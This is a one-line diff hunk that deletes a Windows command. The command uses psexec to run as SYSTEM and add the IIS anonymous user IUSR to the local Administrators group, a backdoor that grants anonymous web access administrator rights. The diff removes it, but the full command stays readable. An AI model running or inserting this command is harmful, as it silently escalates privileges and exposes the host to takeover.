@@ -1,1 +1,0 @@
-psexec \\%COMPUTERNAME% -s net localgroup Administrators IUSR /add
